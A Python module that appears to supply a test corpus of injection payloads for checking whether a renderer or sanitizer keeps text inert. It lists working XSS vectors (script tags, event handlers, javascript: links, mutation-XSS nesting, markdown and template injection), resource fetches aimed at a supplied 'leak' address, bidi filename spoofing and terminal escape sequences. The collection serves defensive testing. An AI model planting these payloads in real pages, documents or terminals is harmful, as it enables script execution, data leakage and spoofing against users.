"""Texts that become something else where text is not kept text."""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"

_PAYLOADS = """
<script>@RUN@</script>
<script src=@LEAK@></script>
<ScRiPt>@RUN@</sCrIpT>
<script/x>@RUN@</script
"><script>@RUN@</script>
'-@RUN@-'
</title><script>@RUN@</script>
</textarea><script>@RUN@</script>
</style><script>@RUN@</script>
<img src=x onerror="@RUN@">
<img src=@LEAK@>
<img srcset="@LEAK@ 2x" src=x>
<image href=@LEAK@ onerror="@RUN@">
<picture><source srcset=@LEAK@></picture>
<body onload="@RUN@">
<svg onload="@RUN@">
<svg><script>@RUN@</script></svg>
<svg><animate onbegin="@RUN@" attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload='@RUN@'/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>@RUN@</script>"></iframe></foreignObject></svg>
<svg><a xlink:href="javascript:@RUN@"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="@RUN@"></style></mglyph></table></mtext></math>
<math href="javascript:@RUN@">x</math>
<iframe src="javascript:@RUN@"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src=@LEAK@></iframe>
<object data=@LEAK@></object>
<embed src=@LEAK@>
<meta http-equiv=refresh content="0;url=@LEAK@">
<base href=@LEAK@>
<link rel=stylesheet href=@LEAK@>
<link rel=preload as=image href=@LEAK@>
<style>@import url(@LEAK@);</style>
<style>*{background:url(@LEAK@)}</style>
<div style="background:url(@LEAK@)">x</div>
<div style="position:fixed;inset:0;z-index:9999">cover</div>
<input autofocus onfocus="@RUN@">
<details open ontoggle="@RUN@"><summary>x</summary></details>
<video src=@LEAK@ onerror="@RUN@"></video>
<audio src=@LEAK@ autoplay></audio>
<form action=@LEAK@><button>x</button></form>
<isindex action="javascript:@RUN@">
<marquee onstart="@RUN@">x</marquee>
<a href="javascript:@RUN@">x</a>
<noscript><p title="</noscript><img src=x onerror=@RUN@>">
<svg></p><style><a id="</style><img src=1 onerror=@RUN@>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=@RUN@>
<table><td><svg><desc><td></desc><img src=x onerror=@RUN@></svg>
<!--><img src=x onerror="@RUN@">-->
<![CDATA[><img src=x onerror="@RUN@">]]>
&lt;script&gt;@RUN@&lt;/script&gt;
&#60;img src=x onerror="@RUN@"&#62;
[link](javascript:@RUN@)
[link](JaVaScRiPt:@RUN@)
[link](java&#10;script:@RUN@)
[link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)
[link](vbscript:msgbox(1))
[link](//127.0.0.1:@PORT@/leak)
[ref]: javascript:@RUN@ "x" [ref]
<javascript:@RUN@>
![picture](@LEAK@)
![picture](@LEAK@ "x\" onerror=\"@RUN@")
![picture](data:image/svg+xml,<svg onload="@RUN@">)
![ref][leak] [leak]: @LEAK@
[![x](@LEAK@)](javascript:@RUN@)
$\\href{javascript:@RUN@}{x}$ $\\includegraphics{@LEAK@}$ $\\htmlData{x=y}{z}$
```html<img src=x onerror="@RUN@">```
`<img src=x onerror="@RUN@">`
| <img src=x onerror="@RUN@"> | [x](javascript:@RUN@) |
{{constructor.constructor('@RUN@')()}} ${@RUN@} <%= @RUN@ %>
"""

BIDI = "invoice_\u202egpj.exe\u202c \u2066\u200b\u200d\ufeffx\u2069"
TERMINAL = [
    "\x1b]8;;javascript:window.pwned=1\x07click\x1b]8;;\x07",
    "\x1b]8;;@LEAK@\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[31m<img src=x onerror=window.pwned=1>\x1b[0m",
    "\x1b]0;title\x07\x1b[2J\x1b[H\x1b[?1049h\x1bc",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1bP+q544e\x1b\\\x9b31m\u202ereversed",
]


def payloads(leak: str) -> list[str]:
    """Return the texts; whatever they fetch, they fetch from `leak`."""
    port = leak.rsplit(":", 1)[1].split("/")[0]
    lines = _PAYLOADS.strip().splitlines()
    return [filled(line, leak).replace("@PORT@", port) for line in lines] + [BIDI]


def filled(text: str, leak: str) -> str:
    """Put the address that nobody may ask and the code that nobody may run into a text."""
    return text.replace("@RUN@", RUN).replace("@LEAK@", leak)
